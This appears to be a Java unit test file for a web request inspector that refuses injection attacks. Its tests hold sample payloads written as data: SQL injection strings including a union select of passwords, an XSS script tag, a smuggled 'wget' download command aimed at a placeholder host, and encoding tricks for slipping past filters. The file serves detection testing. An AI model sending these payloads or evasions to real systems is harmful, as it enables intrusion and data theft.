package ai.bhiv.guard.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.random.RandomGenerator;
import org.junit.jupiter.api.Test;

class DetectionTest {
    /// At most this share of what was found may be lost by a mutation.
    private static final double LOST = 0.05;

    @Test
    void ordinaryValuesPassInEveryPlace() {
        var refused = new ArrayList<String>();
        for (var line : Samples.lines("ordinary")) {
            for (var placement : List.of(Placement.QUERY, Placement.FORM, Placement.JSON)) {
                var verdict = Inspection.of(placement.request(line));
                if (verdict.refuses()) {
                    refused.add(placement + " " + line + " " + verdict.findings());
                }
            }
        }
        assertThat(refused).isEmpty();
    }

    @Test
    void namesWithApostrophesAndSentencesOfSqlWordsPass() {
        var random = new Random(20261125);
        var refused = new ArrayList<String>();
        for (int i = 0; i < 8_000; i++) {
            var sentence = Samples.sentence(random);
            if (Inspector.inspect(sentence).score() >= Rule.THRESHOLD) {
                refused.add(sentence);
            }
        }
        assertThat(refused.size()).as(refused.toString()).isLessThan(24);
    }

    @Test
    void attacksAreRefusedWithTheirPlaceAndTheirDecoding() {
        for (var label : Samples.ATTACKS) {
            for (var line : Samples.lines(label)) {
                var verdict = Inspection.of(Placement.QUERY.request(line));
                assertThat(verdict.refuses())
                        .as(label + ": " + line + " " + verdict.findings())
                        .isTrue();
                assertThat(verdict.findings())
                        .allMatch(finding -> finding.place().equals("query"));
            }
        }
        var twice = Inspection.of(Placement.QUERY.request("%27%20or%201%3D1--"));
        assertThat(twice.findings().getFirst().decoding()).contains("percent");
    }

    @Test
    void mutationsHideLittle() {
        var random = new Random(7);
        mutated("case", List.of("sqli", "xss"), line -> randomCase(line, random));
        mutated("percent", Samples.ATTACKS, DetectionTest::percent);
        mutated("percent twice", Samples.ATTACKS, line -> percent(percent(line)));
        mutated("comments for blanks", List.of("sqli"), line -> line.replace(" ", "/**/"));
        mutated("line breaks for blanks", List.of("sqli"), line -> line.replace(" ", "\n"));
        mutated("full width", List.of("sqli", "xss"), DetectionTest::wide);
        mutated("entities", List.of("xss"), DetectionTest::entities);
        mutated("padded before", List.of("sqli", "xss", "rce"), line -> line.startsWith("(") ? line : "1" + line);
    }

    @Test
    void base64HidesNothingThatIsLongEnough() {
        for (var line : Samples.lines("xss")) {
            if (line.length() > 20 && line.contains("<script")) {
                var hidden = Base64.getEncoder().encodeToString(line.getBytes(StandardCharsets.UTF_8));
                assertThat(Inspector.inspect(hidden).score()).as(line).isGreaterThanOrEqualTo(Rule.THRESHOLD);
            }
        }
    }

    @Test
    void aLongOrdinaryBeginningDoesNotHideAnAttackInTheSameValue() {
        var filler = "lorem ipsum ".repeat(500);
        for (var attack : List.of("' or '1'='1", "<script>alert(1)</script>", "; wget http://x.example/a")) {
            assertThat(Inspection.of(Placement.FORM.request(filler + attack)).score())
                    .as(attack)
                    .isPositive();
        }
        assertThat(Inspection.of(Placement.FORM.request(filler + "' or '1'='1")).refuses())
                .isTrue();
    }

    @Test
    void freeTextIsWatchedAndNotRefused() {
        var attack = "' or 1=1 union select password from users--";
        var body = "{\"name\":\"x\",\"description\":\"Found in the log: %s\"}".formatted(attack);
        var note = Inspection.of(json(body));
        assertThat(note.refuses()).isFalse();
        assertThat(note.watched()).isGreaterThanOrEqualTo(Rule.THRESHOLD);
        assertThat(Inspection.of(json("{\"name\":\"%s\"}".formatted(attack))).refuses())
                .isTrue();
    }

    private static RequestParts json(String body) {
        return new RequestParts(
                "POST", "/t", null, List.of(), "application/json", body.getBytes(StandardCharsets.UTF_8), false);
    }

    private static void mutated(String what, List<String> labels, UnaryOperator<String> mutation) {
        int all = 0;
        var missed = new ArrayList<String>();
        for (var label : labels) {
            for (var line : Samples.lines(label)) {
                all++;
                if (Inspector.inspect(mutation.apply(line)).score() < Rule.THRESHOLD) {
                    missed.add(line);
                }
            }
        }
        assertThat(missed.size()).as(what + ": " + missed).isLessThanOrEqualTo((int) Math.ceil(all * LOST));
    }

    private static String randomCase(String text, RandomGenerator random) {
        var out = new StringBuilder();
        for (var c : text.toCharArray()) {
            out.append(random.nextBoolean() ? Character.toUpperCase(c) : Character.toLowerCase(c));
        }
        return out.toString();
    }

    private static String percent(String text) {
        var out = new StringBuilder();
        for (var octet : text.getBytes(StandardCharsets.UTF_8)) {
            out.append("%%%02X".formatted(octet & 0xFF));
        }
        return out.toString();
    }

    private static String wide(String text) {
        var out = new StringBuilder();
        for (var c : text.toCharArray()) {
            out.append(c > ' ' && c < 127 ? (char) (c + 0xFEE0) : c);
        }
        return out.toString();
    }

    private static String entities(String text) {
        var out = new StringBuilder();
        for (var c : text.toCharArray()) {
            out.append("&#x%x;".formatted((int) c));
        }
        return out.toString();
    }
}
